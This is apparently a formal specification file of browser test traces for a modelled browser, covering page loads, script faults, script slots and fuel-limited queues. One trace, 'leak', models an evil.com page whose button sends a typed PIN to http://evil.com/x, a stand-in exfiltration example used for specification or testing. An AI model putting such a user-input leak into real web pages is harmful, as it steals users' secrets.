-- Traces: inputs, and what one copy of the browser puts for each of them.
use Rattle.std.specs.Prelude.{ℕ, pos, None, List, [], ◌∷◌, codes}
use Rattle.ff_name.specs.declared.urls.Url.{Url}
use Rattle.ff_name.specs.declared.urls.Url.TheVariants as url
use Rattle.ff_tree.specs.declared.op.Op.TheVariants as op
use Rattle.ff_tree.specs.declared.tree.Doc.{Doc}
use Rattle.ff_tree.specs.declared.tree.Doc.TheVariants as doc
use Rattle.ff_tree.specs.declared.tree.Doc.TheViews.{roll-Handler}
use Rattle.ff_tree.specs.declared.tree.Expr.{Expr}
use Rattle.ff_tree.specs.declared.tree.Expr.TheVariants as expr
use Rattle.ff_tree.specs.declared.tree.Handler.{Handler}
use Rattle.ff_tree.specs.declared.tree.Lit.TheVariants as lit
use Rattle.ff_value.specs.declared.fault.Fault.TheVariants as fault
use Rattle.ff_value.specs.declared.input.Act.{Act}
use Rattle.ff_value.specs.declared.input.Act.TheVariants as act
use Rattle.ff_value.specs.declared.input.Input.{Input}
use Rattle.ff_value.specs.declared.output.Out.{Out}
use Rattle.ff_value.specs.declared.output.Out.TheVariants as out
use Rattle.ff_value.specs.declared.output.ShownPart.{ShownPart}
use Rattle.ff_value.specs.declared.output.ShownPart.TheVariants as shown_part
use Rattle.ff_value.specs.declared.reply.Resp.TheVariants as resp

-- inputs, and the outputs for each of them
pub record Trace : Type 0 where
  pub inputs : List Input
  pub outputs : List (List Out)

-- an act without a tag
abbrev pub untagged : Act → Input
untagged a = record { tag = None; act = a }

-- Inputs and outputs of a window that shows the page of a domain.

module _ (domain : List ℕ) where
  -- `http://DOMAIN/`
  abbrev pub home : Url
  home = url.At domain (codes "/")

  -- `open http://DOMAIN/`
  abbrev pub opening : Input
  opening = untagged (act.Opens home)

  -- `reply DOMAIN 0 (doc () DOCUMENT..)`
  abbrev pub replying : List Doc → Input
  replying docs = untagged (act.Replies domain 0 (resp.Page [] docs))

  -- `reply DOMAIN 0 (script () EXPRESSION)`
  abbrev pub script_comes : Expr → Input
  script_comes e = untagged (act.Replies domain 0 (resp.Script [] e))

  -- `send DOMAIN TEXT () BODY`
  abbrev pub send_to : List ℕ → List ℕ → Out
  send_to uri body = out.Send domain uri [] body

  -- `opened`, and then `send DOMAIN "/" () ""`
  abbrev pub opened : List Out
  opened = out.Opened ∷ send_to (codes "/") [] ∷ []

  -- `loaded 0 http://DOMAIN/ (page PART..)`
  abbrev pub loaded : List ShownPart → Out
  loaded parts = out.Loaded 0 home parts

-- `updated 0 (page PART..)`
abbrev pub updated : List ShownPart → Out
updated parts = out.Updated 0 parts

-- Expressions.

-- a text
abbrev pub str : List ℕ → Expr
str text = expr.Lit (lit.Str text)

-- a number
abbrev pub num : ℕ → Expr
num n = expr.Lit (lit.Num (pos n))

-- `null`
abbrev pub null : Expr
null = expr.Lit lit.Null

-- `(find (page (self)) NAME)`
abbrev pub named : List ℕ → Expr
named x = expr.Prim op.Find (expr.Prim op.Page (expr.Prim op.SelfWindow [] ∷ []) ∷ str x ∷ [])

-- `(set-text (find (page (self)) "x") TEXT)`
abbrev pub set_x : List ℕ → Expr
set_x text = expr.Prim op.SetText (named (codes "x") ∷ str text ∷ [])

-- A page load: a window opens and asks for its page; the reply loads it. The same reply once more
-- answers no request.

-- `a.com`
abbrev pub a_com : List ℕ
a_com = codes "a.com"

-- `(text t "hi")`
abbrev pub greeting : List Doc
greeting = doc.Text (codes "t") (codes "hi") ∷ []

abbrev pub page_load : Trace
page_load = record {
  inputs = opening a_com ∷ replying a_com greeting ∷ replying a_com greeting ∷ [];
  outputs = opened a_com ∷ (loaded a_com (shown_part.Text (codes "hi") ∷ []) ∷ []) ∷ [] ∷ [];
}

-- The leak: a page whose button sends what the user typed into its box.

-- `evil.com`
abbrev pub evil_com : List ℕ
evil_com = codes "evil.com"

-- `(ask "http://evil.com/x" (text (find (page (self)) "b")) (fn (r) null))`
abbrev pub asks_text : Expr
asks_text = expr.Prim op.Ask (str (codes "http://evil.com/x") ∷ expr.Prim op.Text (named (codes "b") ∷ []) ∷ expr.Make (codes "r" ∷ []) null ∷ [])

-- `(fn (n) (ask ..))`
abbrev pub sends_text : Handler
sends_text = roll-Handler (record { param = codes "n"; body = asks_text })

-- `(box b "") (button g "go" (fn (n) (ask ..)))`
abbrev pub leaky : List Doc
leaky = doc.TextBox (codes "b") [] [] ∷ doc.Button (codes "g") (codes "go") (sends_text ∷ []) ∷ []

-- `(box TEXT) (button "go")`
abbrev pub leaky_shown : List ℕ → List ShownPart
leaky_shown text = shown_part.TextBox text ∷ shown_part.Button (codes "go") ∷ []

-- `type 0 0 "pin"`
abbrev pub typing : Input
typing = untagged (act.Types 0 0 (codes "pin"))

-- `click 0 0`
abbrev pub clicking : Input
clicking = untagged (act.Clicks 0 0)

-- what was typed is sent
abbrev pub leak : Trace
leak = record {
  inputs = opening evil_com ∷ replying evil_com leaky ∷ typing ∷ clicking ∷ [];
  outputs = opened evil_com ∷ (loaded evil_com (leaky_shown []) ∷ []) ∷ (updated (leaky_shown (codes "pin")) ∷ []) ∷ (send_to evil_com (codes "/x") (codes "pin") ∷ []) ∷ [];
}

-- a copy that doesn't see the typing sends an empty text in its place
abbrev pub without_typing : Trace
without_typing = record {
  inputs = opening evil_com ∷ replying evil_com leaky ∷ clicking ∷ [];
  outputs = opened evil_com ∷ (loaded evil_com (leaky_shown []) ∷ []) ∷ (send_to evil_com (codes "/x") [] ∷ []) ∷ [];
}

-- A fault in a script: the script that fails ends with an error; the next one runs.

-- `(+ 9223372036854775807 1)`
abbrev pub too_large : Expr
too_large = expr.Prim op.Add (num 9223372036854775807 ∷ num 1 ∷ [])

-- `(text x "no") (script s (+ 9223372036854775807 1)) (script t (set-text .. "ok"))`
abbrev pub faulty : List Doc
faulty = doc.Text (codes "x") (codes "no") ∷ doc.Script (codes "s") too_large ∷ doc.Script (codes "t") (set_x (codes "ok")) ∷ []

abbrev pub fault_in_script : Trace
fault_in_script = record {
  inputs = opening a_com ∷ replying a_com faulty ∷ [];
  outputs = opened a_com ∷ (loaded a_com (shown_part.Text (codes "no") ∷ []) ∷ out.Error 0 fault.Overflow ∷ updated (shown_part.Text (codes "ok") ∷ []) ∷ []) ∷ [];
}

-- A slot that waits: a script whose address was asked for holds back the next one until it comes.

-- `http://a.com/s`
abbrev pub address : Url
address = url.At a_com (codes "/s")

-- `(src a http://a.com/s) (script b (set-text .. "two")) (text x "zero")`
abbrev pub slotted : List Doc
slotted = doc.Src (codes "a") address ∷ doc.Script (codes "b") (set_x (codes "two")) ∷ doc.Text (codes "x") (codes "zero") ∷ []

abbrev pub waiting_slot : Trace
waiting_slot = record {
  inputs = opening a_com ∷ replying a_com slotted ∷ script_comes a_com (set_x (codes "one")) ∷ [];
  outputs = opened a_com ∷ (loaded a_com (shown_part.Text (codes "zero") ∷ []) ∷ send_to a_com (codes "/s") [] ∷ []) ∷ (updated (shown_part.Text (codes "two") ∷ []) ∷ []) ∷ [];
}

-- A queue that is left: with one fuel for each input a script is begun and stopped, and the next
-- one waits for the next input's fuel.

-- `(script a 1) (script b 2)`
abbrev pub numbers : List Doc
numbers = doc.Script (codes "a") (num 1) ∷ doc.Script (codes "b") (num 2) ∷ []

-- `close 5`, which is no window
abbrev pub close_five : Input
close_five = untagged (act.Closes 5)

abbrev pub queue_left : Trace
queue_left = record {
  inputs = opening a_com ∷ replying a_com numbers ∷ close_five ∷ close_five ∷ [];
  outputs = opened a_com ∷ (loaded a_com [] ∷ out.Stopped ∷ []) ∷ (out.Stopped ∷ []) ∷ [] ∷ [];
}
